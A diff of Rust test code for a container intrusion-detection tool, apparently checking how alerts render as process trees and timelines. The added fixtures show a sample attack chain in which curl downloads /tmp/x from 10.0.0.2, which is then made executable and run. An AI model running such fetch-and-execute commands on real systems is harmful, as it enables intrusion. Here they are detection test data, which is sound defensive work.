@@ -72,6 +72,8 @@ fn what_a_correlation_found_stands_beside_its_condition() {
   to         10.0.0.2:22 tcp
              10.0.0.2:80 tcp
              10.0.0.2:443 tcp
+  processes  4240 sh -c curl -sSLo /tmp/x http://10.0.0.2/payload
+             └─ 4242 curl -sSLo /tmp/x http://10.0.0.2/payload
   timeline       0 ms  sh    connected  10.0.0.2:22 tcp
                 12 ms  curl  connected  10.0.0.2:80 tcp
                900 ms  curl  connected  10.0.0.2:443 tcp
@@ -161,12 +163,48 @@ fn rules_over_their_budget_are_told_with_the_remedy() {
 }
 
 #[test]
+fn a_chain_is_told_as_a_tree_and_a_timeline() {
+    let expected = "\
+\x20CRITICAL  curl downloads into a container                                                T1105 · 12:03:14.281
+  container  web-1  8f3a2c91d0b4  nginx:1.25  docker  steady
+  process    curl -sSLo /tmp/x http://10.0.0.2/payload   pid 4242  root
+  lineage    containerd-shim-runc-v2 ─ sh ─ curl
+  story      brought in ▸ run ▸ called home   alert 2 of 00000000-0000-0000-0000-000000000009
+  to         10.0.0.2:80 tcp   ↑ 20 MiB  ↓ 1.2 MiB
+  file       /tmp/x
+  also       A file that came in was run  T1105  high  ×3
+  processes  4240 sh -c /tmp/job
+             ├─ 4242 curl -sSLo /tmp/x http://10.0.0.2/payload
+             ├─ 4243 chmod +x /tmp/x
+             └─ 4244 /tmp/x --quiet
+                └─ 4245 id
+             and 2 more
+  timeline       0 ms  curl   ran        curl -sSLo /tmp/x http://10.0.0.2/payload   ◆ curl downloads into a …
+                12 ms  curl   connected  10.0.0.2:80 tcp
+                15 ms  curl   wrote      /tmp/x   1.2 MiB
+                19 ms  curl   closed     10.0.0.2:80   ↑ 92 B  ↓ 1.2 MiB
+                20 ms  curl   exited     0
+                40 ms  chmod  made       /tmp/x executable
+                60 ms  x      ran        /tmp/x --quiet   ◆ A file that came in was run
+                70 ms  x      connected  10.0.0.2:80 tcp
+               900 ms  x      closed     10.0.0.2:80   ↑ 20 MiB  ↓ 600 B
+  next       1. Keep the file: docker cp web-1:/tmp/x .
+             2. Ask the owner of the image whether this download is meant to happen; if nobody knows it, pause
+                the container and go on with the runbook for intrusions.
+  alert      #7  01932b9e-4c11-7abc-8def-0123456789ab  rule 6f2f0b5e-6f0a-4d0a-9e55-0c1f7a8a1d01
+
+";
+    assert_eq!(show(&Message::Alert(Box::new(sample::chain())), 110), expected);
+}
+
+#[test]
 fn no_line_is_wider_than_the_terminal() {
     for message in [
         sample::message(),
         Message::Alert(Box::new(sample::hostile())),
         sample::coverage(),
         Message::Alert(Box::new(sample::connections())),
+        Message::Alert(Box::new(sample::chain())),
         sample::loss(),
         sample::tampering(),
         sample::aggregation(),
